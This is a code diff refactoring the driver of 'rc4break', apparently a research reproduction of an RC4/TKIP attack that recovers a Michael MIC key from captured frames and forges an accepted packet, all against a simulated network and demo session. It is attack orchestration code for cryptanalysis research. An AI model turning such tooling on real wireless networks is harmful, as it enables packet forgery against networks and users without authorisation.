@@ -49,13 +49,11 @@ import (
 	"flag"
 	"fmt"
 	"os"
-	"time"
 
 	"rc4break/internal/cliutil"
 	"rc4break/internal/job"
 	"rc4break/internal/netsim"
 	"rc4break/internal/online"
-	"rc4break/internal/snapshot"
 	"rc4break/internal/tkip"
 	"rc4break/internal/trace"
 )
@@ -121,140 +119,41 @@ func main() {
 		}
 		return
 	}
-	if *onlineMode {
-		if *collectOnly || *merge != "" {
-			fatal(errors.New("-online composes with -checkpoint/-resume; -merge and -collect-only are offline-pool workflows"))
-		}
-		if spec.Traces != nil {
-			fatal(errors.New("-online captures live; -pcap is an offline/fleet ingest path"))
-		}
-	}
-
-	var evidence []byte
-	if *resume != "" {
-		if evidence, err = os.ReadFile(*resume); err != nil {
-			fatal(fmt.Errorf("resume %s: %w", *resume, err))
-		}
-	}
-	rt, err := job.New(spec, evidence)
+	rt, err := job.Resume(spec, *resume)
 	if err != nil {
 		fatal(err)
 	}
-	if *resume != "" {
-		fmt.Printf("      resumed %s: %d captured frames\n", *resume, rt.Observed())
-	}
-	attack := rt.Decoder.(*tkip.Attack)
-	oracle := rt.Oracle.(*tkip.TrailerOracle)
-
-	if *onlineMode {
-		depth := *maxPerRound
-		if depth <= 0 {
-			depth = *maxDepth
-		}
-		runOnline(rt, *mode, *copies,
-			online.Cadence{First: *firstDecode, Every: *decodeEvery},
-			depth, *checkpoint, *checkpointEvery, *jsonOut)
-		return
-	}
-
-	var remaining uint64
-	if *copies > attack.Frames {
-		remaining = *copies - attack.Frames
-	}
-	displayMode := *mode
-	if spec.Traces != nil {
-		displayMode = "trace"
-	}
-	fmt.Printf("[2/4] capturing %d encryptions of the injected packet (%s mode)...\n", remaining, displayMode)
-	start := time.Now()
-	if remaining == 0 {
-		fmt.Println("      shard target already reached by resumed capture")
-	} else if err := rt.Checkpointed(*checkpoint, *checkpointEvery)(*copies); err != nil {
-		fatal(err)
-	}
-	if summary := rt.Summary(); summary != "" {
-		fmt.Printf("      %s\n", summary)
-	}
-	collectTime := time.Since(start)
-	fmt.Printf("      captured in %v (shard frames: %d; live air time at %d pps: %.1f h)\n",
-		collectTime.Round(time.Millisecond), attack.Frames, netsim.TKIPInjectionPerSecond,
-		float64(attack.Frames)/netsim.TKIPInjectionPerSecond/3600)
-
-	if *checkpoint != "" {
-		if err := rt.SaveFile(*checkpoint); err != nil {
-			fatal(err)
-		}
-		fmt.Printf("      snapshot -> %s\n", *checkpoint)
-	}
-
-	// Shards that captured the same stream (same mode and seed) hold the
-	// same observations; merging them would double-count evidence.
-	seenStreams := make(map[snapshot.StreamInfo]string)
-	if attack.Frames > 0 && attack.Stream != (snapshot.StreamInfo{}) {
-		seenStreams[attack.Stream] = "this shard"
-	}
-	for _, path := range cliutil.SplitList(*merge) {
-		shard, err := tkip.ReadAttackSnapshotFile(path, model)
-		if err != nil {
-			fatal(fmt.Errorf("merge %s: %w", path, err))
-		}
-		if shard.Stream != (snapshot.StreamInfo{}) {
-			if prev, dup := seenStreams[shard.Stream]; dup {
-				fatal(fmt.Errorf("merge %s: same capture stream (%s/seed %d) as %s — its frames would be double-counted",
-					path, shard.Stream.Mode, shard.Stream.Seed, prev))
+	err = job.CLI{
+		Budget: *copies, Depth: *maxDepth, RoundDepth: *maxPerRound,
+		Checkpoint: *checkpoint, CheckpointEvery: *checkpointEvery,
+		Merge: cliutil.SplitList(*merge), CollectOnly: *collectOnly,
+		Online: *onlineMode, Cadence: online.Cadence{First: *firstDecode, Every: *decodeEvery},
+		JSON: *jsonOut,
+		Live: func(n uint64) string {
+			return fmt.Sprintf("%.1f h of injection at %d pps", float64(n)/netsim.TKIPInjectionPerSecond/3600, netsim.TKIPInjectionPerSecond)
+		},
+		Recovered: func(online.Result) []byte {
+			// The trailer oracle inverted the MIC key and, through
+			// netsim.ForgeryConfirm, already rejected any ICV collision;
+			// the result reports that key, not the trailer.
+			oracle := rt.Oracle.(*tkip.TrailerOracle)
+			fmt.Printf("      recovered MIC key: %x (%d ICV passes)\n", oracle.MICKey, oracle.ICVPasses)
+			if oracle.MICKey == tkip.DemoSession().MICKey {
+				fmt.Println("      MIC key matches the real key")
 			}
-			seenStreams[shard.Stream] = path
-		}
-		if err := attack.Merge(shard); err != nil {
-			fatal(fmt.Errorf("merge %s: %w", path, err))
-		}
-		fmt.Printf("      merged %s: +%d frames (pool now %d)\n", path, shard.Frames, attack.Frames)
-	}
-
-	if *collectOnly {
-		fmt.Println("      collect-only: skipping recovery phase")
-		return
-	}
-
-	fmt.Printf("[3/4] decrypting trailer via ICV-pruned candidate list (depth <= %d)...\n", *maxDepth)
-	start = time.Now()
-	micKey, depth, err := attack.RecoverTrailer(oracle.DA, oracle.SA, oracle.MSDU, *maxDepth)
-	recoverTime := time.Since(start)
-	result := cliutil.RunResult{
-		Attack:       "tkip",
-		Mode:         displayMode,
-		Success:      err == nil,
-		Rank:         depth,
-		Observations: attack.Frames,
-		CaptureMS:    float64(collectTime.Microseconds()) / 1000,
-		// RecoverTrailer interleaves decoding with the ICV oracle, so the
-		// offline path reports their combined time as decode.
-		DecodeMS:  float64(recoverTime.Microseconds()) / 1000,
-		ElapsedMS: float64((collectTime + recoverTime).Microseconds()) / 1000,
-	}
+			forgeDemo(oracle.MSDU, oracle.MICKey)
+			return oracle.MICKey[:]
+		},
+	}.Run(rt)
 	if err != nil {
-		result.Error = err.Error()
-		fmt.Printf("      attack failed: %v (try more copies or deeper search)\n", err)
-		emitJSON(*jsonOut, result)
-		os.Exit(1)
+		fatal(err)
 	}
-	result.Plaintext = fmt.Sprintf("%x", micKey[:])
-	fmt.Printf("      correct-ICV candidate at list position %d (%v)\n", depth, recoverTime.Round(time.Millisecond))
-	fmt.Printf("      recovered MIC key: %x\n", micKey)
-	if micKey == tkip.DemoSession().MICKey {
-		fmt.Println("      MIC key matches the real key")
-	} else {
-		fmt.Println("      WARNING: recovered key does not match (ICV collision, as §5.4 observed once)")
-	}
-
-	forgeDemo(oracle.MSDU, micKey, "[4/4]")
-	emitJSON(*jsonOut, result)
 }
 
 // forgeDemo demonstrates impact: a packet forged under the recovered MIC
 // key must be accepted by the network.
-func forgeDemo(msdu []byte, micKey [8]byte, phase string) {
-	fmt.Printf("%s forging a packet with the recovered MIC key...\n", phase)
+func forgeDemo(msdu []byte, micKey [8]byte) {
+	fmt.Println("[4/4] forging a packet with the recovered MIC key...")
 	session := tkip.DemoSession()
 	attacker := &tkip.Session{TK: session.TK, MICKey: micKey, TA: session.TA, DA: session.DA, SA: session.SA}
 	forged := attacker.Encapsulate(msdu, 0xF00D)
@@ -263,68 +162,6 @@ func forgeDemo(msdu []byte, micKey [8]byte, phase string) {
 		os.Exit(1)
 	}
 	fmt.Println("      forged packet accepted by the network — attack complete")
-}
-
-// runOnline drives the §5.3 closed loop: capture frames to the next cadence
-// point, compute likelihoods, walk the lazy best-first candidate list
-// against the Michael-MIC/ICV trailer oracle (with a network-forgery
-// confirmation of the recovered key), and stop at the first confirmed
-// trailer. Decode points are absolute frame counts, so a checkpointed run
-// killed and resumed continues on exactly the cadence an uninterrupted run
-// would use.
-func runOnline(rt *job.Runtime, mode string, budget uint64, cad online.Cadence, depth int, checkpoint string, checkpointEvery uint64, jsonOut bool) {
-	if budget <= rt.Observed() {
-		fatal(fmt.Errorf("online: budget %d already reached by resumed capture (%d frames)", budget, rt.Observed()))
-	}
-	oracle := rt.Oracle.(*tkip.TrailerOracle)
-	fmt.Printf("[2/4] online closed loop: budget %d frames, first decode at %d, %s cadence, %d candidates/round...\n",
-		budget, cad.First, cad, depth)
-	res, err := online.Run(online.Config{
-		Decoder:       rt.Decoder,
-		Oracle:        oracle,
-		Cadence:       cad,
-		MaxCandidates: depth,
-		Budget:        budget,
-		Feed:          online.FeedFunc(rt.Checkpointed(checkpoint, checkpointEvery)),
-		Checkpoint:    cliutil.OnlineCheckpoint(checkpoint, rt.Unit, rt.SaveFile, rt.Observed),
-		Logf:          cliutil.IndentLogf,
-	})
-	if errors.Is(err, cliutil.ErrInterrupted) {
-		fatal(err)
-	}
-	if err != nil {
-		fmt.Printf("      online attack failed: %v (budget %d frames; try a deeper walk or a larger budget)\n", err, budget)
-		emitJSON(jsonOut, cliutil.OnlineRunResult("tkip", mode, res, err))
-		os.Exit(1)
-	}
-	if checkpoint != "" {
-		if err := rt.SaveFile(checkpoint); err != nil {
-			fatal(err)
-		}
-	}
-	saved := budget - res.Observed
-	fmt.Printf("[3/4] online success: correct trailer at rank %d after %d frames — %d under the %d budget (%.1f h of injection saved)\n",
-		res.Rank, res.Observed, saved, budget, float64(saved)/netsim.TKIPInjectionPerSecond/3600)
-	fmt.Printf("      %d decode rounds, %d oracle checks (+%d cache-skipped, %d ICV passes), wall-clock %v (capture %v, decode %v, oracle %v)\n",
-		res.Rounds, res.Checks, res.Skipped, oracle.ICVPasses,
-		res.Elapsed.Round(time.Millisecond), res.CaptureTime.Round(time.Millisecond),
-		res.DecodeTime.Round(time.Millisecond), res.OracleTime.Round(time.Millisecond))
-	fmt.Printf("      recovered MIC key: %x\n", oracle.MICKey)
-	if oracle.MICKey == tkip.DemoSession().MICKey {
-		fmt.Println("      MIC key matches the real key")
-	}
-	forgeDemo(oracle.MSDU, oracle.MICKey, "[4/4]")
-	jres := cliutil.OnlineRunResult("tkip", mode, res, nil)
-	jres.Plaintext = fmt.Sprintf("%x", oracle.MICKey[:])
-	emitJSON(jsonOut, jres)
-}
-
-// emitJSON writes the machine-readable result as the final stdout line
-// when -json is set.
-func emitJSON(enabled bool, r cliutil.RunResult) {
-	if err := r.Emit(enabled); err != nil {
-		fatal(err)
-	}
 }
 
 // writeTKIPPcap writes n frames of the demo victim's stream as a
